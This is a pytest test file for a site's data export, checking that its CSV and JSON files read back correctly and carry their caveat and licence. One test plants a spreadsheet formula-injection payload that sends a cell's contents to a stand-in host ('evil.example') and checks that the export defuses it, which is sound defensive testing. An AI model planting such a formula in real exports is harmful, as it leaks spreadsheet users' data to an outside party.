"""All data files of this repository, read back: right columns, nothing lost, nothing that a spreadsheet runs."""

import csv
import io
import json
from collections.abc import Mapping
from dataclasses import replace

import pytest

from synthesis.export.csv_file import read_back
from synthesis.export.rows import list_figures, list_findings, list_relations, list_sources, list_statements, list_themes
from synthesis.model.library import Library
from synthesis.model.offer import OFFERS
from synthesis.model.page import SiteSettings
from synthesis.model.plain_collection import PlainCollection
from synthesis.model.table import CellType, Table
from synthesis.model.tables import FIGURES, FINDINGS, RELATIONS, SOURCES, STATEMENTS, TABLES, THEMES
from synthesis.pipeline import cite_library, make_data, sketch_site
from synthesis.reading import read_library
from synthesis.render.plain_collection import put_collection_plainly
from synthesis.render.plain_findings import list_plain_findings
from tests.site_fixtures import ROOT, SITE_URL

SETTINGS = SiteSettings(site_url=SITE_URL)
CASES = (
    (FINDINGS, list_findings),
    (SOURCES, list_sources),
    (THEMES, list_themes),
    (STATEMENTS, list_statements),
    (FIGURES, list_figures),
    (RELATIONS, list_relations),
)
NAMES = [table.name for table, _ in CASES]


@pytest.fixture(scope="module")
def library() -> Library:
    return read_library(ROOT)[0]


@pytest.fixture(scope="module")
def collection(library: Library) -> PlainCollection:
    citations = cite_library(library)
    return put_collection_plainly(library, citations, SETTINGS, list_plain_findings(library, citations, SETTINGS))


@pytest.fixture(scope="module")
def files(library: Library) -> Mapping[str, bytes]:
    return {file.path: file.content for file in make_data(sketch_site(library, SETTINGS))}


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize(("table", "list_rows"), CASES, ids=NAMES)
def test_every_cell_of_a_csv_file_can_be_read_back(
    table: Table[object], list_rows: object, collection: PlainCollection, files: Mapping[str, bytes]
) -> None:
    assert callable(list_rows)
    wanted = [[column.read(row) for column in table.columns] for row in list_rows(collection)]

    header, *lines = read_csv(files[f"data/{table.name}.csv"])

    assert header == [column.name for column in table.columns]
    assert [
        [
            read_back(cell, is_list=column.type is CellType.LIST) if column.type is not CellType.WHOLE else int(cell)
            for column, cell in zip(table.columns, line, strict=True)
        ]
        for line in lines
    ] == wanted
    assert lines


@pytest.mark.parametrize("table", TABLES, ids=NAMES)
def test_the_key_of_a_table_tells_its_rows_apart(table: Table[object], files: Mapping[str, bytes]) -> None:
    _, *lines = read_csv(files[f"data/{table.name}.csv"])

    keys = [tuple(line[: table.key]) for line in lines]

    assert len(keys) == len(set(keys))


def test_values_are_among_the_allowed_ones(files: Mapping[str, bytes]) -> None:
    for table in TABLES:
        _, *lines = read_csv(files[f"data/{table.name}.csv"])
        for index, column in enumerate(table.columns):
            allowed = {word.value for word in column.words}
            found = {item for line in lines for item in (line[index].split("; ") if column.type is CellType.LIST else [line[index]])}
            assert not allowed or found - {""} <= allowed, column.name


def test_json_files_say_what_the_tables_say(collection: PlainCollection, files: Mapping[str, bytes]) -> None:
    findings = json.loads(files["data/findings.json"])
    themes = json.loads(files["data/themes.json"])

    names = [column.name for column in FINDINGS.columns if column.name != "caveat"]
    for row, record in zip(list_findings(collection), findings["findings"], strict=True):
        cells = {column.name: column.read(row) for column in FINDINGS.columns}
        assert {name: record[name] for name in names if name in record} == {
            name: list(cell) if isinstance(cell, tuple) else cell for name in names if (cell := cells[name]) not in ("", ())
        }
        assert len(record.get("figures", [])) == len(row.finding.record.figures)
        assert len(record.get("relations", [])) == len(row.finding.relations)
    assert sum(len(theme["statements"]) for theme in themes["themes"]) == len(list(list_statements(collection)))


def test_the_caveat_and_the_licence_travel_with_every_file_of_findings(collection: PlainCollection, files: Mapping[str, bytes]) -> None:
    caveat = collection.caveat

    assert all(line[-1] == caveat for name in ("findings", "statements", "figures") for line in read_csv(files[f"data/{name}.csv"])[1:])
    assert all(json.loads(content)["caveat"] == caveat for path, content in files.items() if path.endswith(("s.json", "-2012.json")))
    assert " ".join(files["data/README.txt"].decode().split()).count(caveat) == 1
    package = json.loads(files["data/datapackage.json"])
    assert caveat in package["description"]
    assert package["licenses"][0]["name"] == "CC-BY-4.0"


def test_every_file_that_is_offered_is_written(library: Library, files: Mapping[str, bytes]) -> None:
    twins = [f"data/sources/{source_id}.json" for source_id in library.sources]

    assert {path for path in files if path.startswith("data/")} == {
        *(offer.path for offer in OFFERS),
        *twins,
        "data/datapackage.json",
        "data/README.txt",
    }


def test_the_twin_of_a_source_has_its_reports_and_findings(library: Library, files: Mapping[str, bytes]) -> None:
    twin = json.loads(files["data/sources/interviews.json"])

    assert [work["id"] for work in twin["source"]["works"]] == ["galandini2019", "unity-brief"]
    assert [finding["id"] for finding in twin["findings"]] == [finding.id for finding in library.findings_of("interviews")]


def test_nothing_that_somebody_writes_is_run_by_a_spreadsheet(library: Library) -> None:
    hostile = '=HYPERLINK("https://evil.example/?" & A1, "click")'
    findings = {
        id_: replace(located, record=located.record.model_copy(update={"claim": hostile, "caution": "@SUM(A1)", "addressee": "-1+2"}))
        for id_, located in library.findings.items()
    }
    spoilt = replace(library, findings=findings)

    files = {file.path: file.content for file in make_data(sketch_site(spoilt, SiteSettings()))}

    numbers = {("figures", "number"), ("figures", "value")}
    for table in TABLES:
        _, *lines = read_csv(files[f"data/{table.name}.csv"])
        for line in lines:
            cells = zip(table.columns, line, strict=True)
            assert [c for column, c in cells if c[:1] in tuple("=+-@\t\r\n") and (table.name, column.name) not in numbers] == []
    assert json.loads(files["data/findings.json"])["findings"][0]["claim"] == hostile


def test_the_same_library_gives_the_same_bytes(library: Library, files: Mapping[str, bytes]) -> None:
    again = {file.path: file.content for file in make_data(sketch_site(library, SETTINGS))}

    assert again == files
